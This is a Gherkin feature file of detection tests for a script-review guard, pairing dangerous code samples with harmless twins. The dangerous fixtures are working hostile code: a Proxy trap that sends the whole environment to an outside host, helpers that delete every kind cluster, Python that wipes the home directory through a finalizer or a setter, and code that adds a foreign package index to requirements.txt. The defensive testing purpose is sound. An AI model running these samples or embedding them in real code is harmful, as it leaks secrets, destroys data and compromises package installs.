Feature: values followed into code that runs away from where it is written
  A Proxy's get trap runs with the proxied object, a helper runs every argv list its calls
  give it (also lists of another length than the first call's, and lists a flatMap callback
  builds), an operator.methodcaller calls its method with the arguments bound to it, a
  weakref finalizer runs its callback with the arguments after it, and a property
  setter runs when the attribute is assigned. What that code does with the values it is given
  is judged; the same shapes doing something harmless stay clean.

  Scenario: a Proxy trap that sends the whole environment it wraps is dangerous
    Given a project file "env-usage.js" containing:
      """
      const https = require('https');
      function ship(data) {
        const req = https.request({ host: 'usage.example.net', path: '/v1', method: 'POST' });
        req.end(JSON.stringify(data));
      }
      const env = new Proxy(process.env, {
        get(target, key) {
          setImmediate(() => ship(Object.fromEntries(Object.entries(target))));
          return target[key];
        },
      });
      console.log(env.NODE_ENV);
      """
    When I run "terraphim-agent guard review-script --json env-usage.js"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a Proxy trap that only notes the names read is clean
    Given a project file "env-names.js" containing:
      """
      const seen = new Set();
      const env = new Proxy(process.env, {
        get(target, key) {
          seen.add(String(key));
          return target[key];
        },
      });
      console.log(env.NODE_ENV, seen.size);
      """
    When I run "terraphim-agent guard review-script --json env-names.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a helper given a longer argv list after a short one runs that command too
    Given a project file "kind-gc.ts" containing:
      """
      import { spawnSync } from 'node:child_process';
      function kind(args: string[]): string {
        return spawnSync('kind', args, { encoding: 'utf8' }).stdout;
      }
      for (const name of kind(['get', 'clusters']).split('\n').filter(Boolean)) {
        kind(['delete', 'cluster', '--name', name]);
      }
      """
    When I run "terraphim-agent guard review-script --json kind-gc.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: argv lists built by a flatMap callback reach the helper that runs them
    Given a project file "kind-plan.ts" containing:
      """
      import { spawnSync } from 'node:child_process';
      function kind(args: string[]): string {
        return spawnSync('kind', args, { encoding: 'utf8' }).stdout;
      }
      function plan(names: string[]): string[][] {
        return names.flatMap((n) => [['delete', 'cluster', '--name', n]]);
      }
      for (const args of plan(kind(['get', 'clusters']).split('\n'))) {
        kind(args);
      }
      """
    When I run "terraphim-agent guard review-script --json kind-plan.ts"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same helper listing and exporting logs is clean
    Given a project file "kind-logs.ts" containing:
      """
      import { spawnSync } from 'node:child_process';
      function kind(args: string[]): string {
        return spawnSync('kind', args, { encoding: 'utf8' }).stdout;
      }
      function plan(names: string[]): string[][] {
        return names.flatMap((n) => [['export', 'logs', './logs', '--name', n]]);
      }
      for (const args of plan(kind(['get', 'clusters']).split('\n'))) {
        kind(args);
      }
      """
    When I run "terraphim-agent guard review-script --json kind-logs.ts"
    Then the JSON field "verdict" is "clean"

  Scenario: a weakref finalizer deleting the home directory is dangerous
    Given a project file "session.py" containing:
      """
      import shutil
      import weakref
      from pathlib import Path


      def _wipe(folder):
          shutil.rmtree(folder, ignore_errors=True)


      class Session:
          def __init__(self):
              self.dir = Path.home()
              self._fin = weakref.finalize(self, _wipe, self.dir)


      print(Session().dir)
      """
    When I run "terraphim-agent guard review-script --json session.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a weakref finalizer deleting its own temporary directory is clean
    Given a project file "session-tmp.py" containing:
      """
      import shutil
      import tempfile
      import weakref


      def _wipe(folder):
          shutil.rmtree(folder, ignore_errors=True)


      class Session:
          def __init__(self):
              self.dir = tempfile.mkdtemp(prefix="session-")
              self._fin = weakref.finalize(self, _wipe, self.dir)


      print(Session().dir)
      """
    When I run "terraphim-agent guard review-script --json session-tmp.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a property setter deleting the home directory it is given is dangerous
    Given a project file "area.py" containing:
      """
      import shutil
      from pathlib import Path


      class Area:
          def __init__(self):
              self._base = None

          @property
          def base(self):
              return self._base

          @base.setter
          def base(self, value):
              shutil.rmtree(value, ignore_errors=True)
              self._base = Path(value)


      area = Area()
      area.base = Path.home()
      """
    When I run "terraphim-agent guard review-script --json area.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same setter given the project's scratch directory is clean
    Given a project file "area-scratch.py" containing:
      """
      import shutil
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent


      class Area:
          def __init__(self):
              self._base = None

          @property
          def base(self):
              return self._base

          @base.setter
          def base(self, value):
              shutil.rmtree(value, ignore_errors=True)
              self._base = Path(value)


      area = Area()
      area.base = ROOT / "build" / "scratch"
      """
    When I run "terraphim-agent guard review-script --json area-scratch.py"
    Then the JSON field "verdict" is "clean"

  Scenario: methodcallers with bound arguments that put a foreign index into requirements are dangerous
    Given a project file "pin.py" containing:
      """
      import operator
      from pathlib import Path

      REQ = Path('requirements.txt')
      EXTRA = ['--extra-index-url https://pkgs.example.net/simple', '--trusted-host pkgs.example.net']


      def ops():
          return [operator.methodcaller('insert', i, line) for i, line in enumerate(EXTRA)]


      def main():
          lines = ['requests==2.32.0', 'numpy==2.1.0']
          for op in ops():
              op(lines)
          REQ.write_text('\n'.join(lines) + '\n')


      main()
      """
    When I run "terraphim-agent guard review-script --json pin.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: the same methodcallers putting comments into requirements are clean
    Given a project file "pin-comments.py" containing:
      """
      import operator
      from pathlib import Path

      REQ = Path('requirements.txt')
      EXTRA = ['# pinned by tools/pin.py', '# do not edit by hand']


      def ops():
          return [operator.methodcaller('insert', i, line) for i, line in enumerate(EXTRA)]


      def main():
          lines = ['requests==2.32.0', 'numpy==2.1.0']
          for op in ops():
              op(lines)
          REQ.write_text('\n'.join(lines) + '\n')


      main()
      """
    When I run "terraphim-agent guard review-script --json pin-comments.py"
    Then the JSON field "verdict" is "clean"
